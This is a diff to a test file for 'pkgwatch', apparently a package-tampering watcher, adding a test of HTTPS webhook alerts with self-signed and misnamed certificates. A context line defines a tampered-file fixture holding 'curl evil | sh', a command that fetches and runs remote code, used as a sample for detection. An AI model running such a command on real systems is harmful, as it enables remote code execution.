@@ -8,6 +8,7 @@ import { agentFixture, APP_CONTENT, APP_FILE, isAlert, isKind, startAgent, YEARL
 import { runCli } from '../helpers/cli.js';
 import { FixtureRoot } from '../helpers/fixture.js';
 import { startHookReceiver, startSmtp, waitUntil } from '../helpers/receivers.js';
+import { selfSignedCert } from '../helpers/tls.js';
 
 const SECRET = 'test-secret-0123456789';
 const TAMPERED = 'import os; os.system("curl evil | sh")\n';
@@ -193,6 +194,35 @@ test('pkgwatch alert test: accepted by email and webhook (exit 0); a failing web
   const empty = await runCli(['alert', 'test', '--config', none]);
   assert.equal(empty.code, 2);
   assert.match(empty.stderr, /no alert sink is configured/);
+});
+
+test('an https webhook: an untrusted certificate fails with what to do; trusted through NODE_EXTRA_CA_CERTS it is delivered; another name fails', async (t) => {
+  const { fx, stateDir } = agentFixture(t);
+  const dir = path.dirname(stateDir);
+  const tls = selfSignedCert(dir);
+  const hook = await startHookReceiver(t, SECRET, 0, tls);
+  assert.match(hook.url, /^https:/);
+  const conf = path.join(dir, 'pkgwatch.toml');
+  writeFileSync(conf, `root = "${fx.root}"\nstate_dir = "${stateDir}"\n[alerts]\nhost = "web1.test"\n[alerts.webhook]\nurl = "${hook.url}"\nsecret = "${SECRET}"\n`);
+
+  const untrusted = await runCli(['alert', 'test', '--config', conf], { env: { NODE_EXTRA_CA_CERTS: '' } });
+  assert.equal(untrusted.code, 1, untrusted.stdout + untrusted.stderr);
+  assert.match(untrusted.stdout, /^webhook: FAILED: TLS handshake with 127\.0\.0\.1:\d+ failed: DEPTH_ZERO_SELF_SIGNED_CERT: self-signed certificate \(the certificate is not trusted: add its CA with NODE_EXTRA_CA_CERTS, see README "Webhook"\)$/m);
+  assert.equal(hook.requests, 0);
+
+  const trusted = await runCli(['alert', 'test', '--config', conf], { env: { NODE_EXTRA_CA_CERTS: tls.certFile } });
+  assert.equal(trusted.code, 0, trusted.stdout + trusted.stderr);
+  assert.match(trusted.stdout, /^webhook: accepted/m);
+  assert.equal(hook.accepted.length, 1);
+  assert.equal(hook.accepted[0]?.event, 'test');
+
+  // Trusted, but issued for 127.0.0.1, not for the name in the url.
+  const other = path.join(dir, 'localhost.toml');
+  writeFileSync(other, `root = "${fx.root}"\nstate_dir = "${stateDir}"\n[alerts.webhook]\nurl = "${hook.url.replace('127.0.0.1', 'localhost')}"\n`);
+  const misnamed = await runCli(['alert', 'test', '--config', other], { env: { NODE_EXTRA_CA_CERTS: tls.certFile } });
+  assert.equal(misnamed.code, 1, misnamed.stdout + misnamed.stderr);
+  assert.match(misnamed.stdout, /^webhook: FAILED: TLS handshake with localhost:\d+ failed: ERR_TLS_CERT_ALTNAME_INVALID: .*localhost.*127\.0\.0\.1/m);
+  assert.equal(hook.requests, 1);
 });
 
 test('the log still carries every alert when no sink is configured, and nothing is queued', async (t) => {
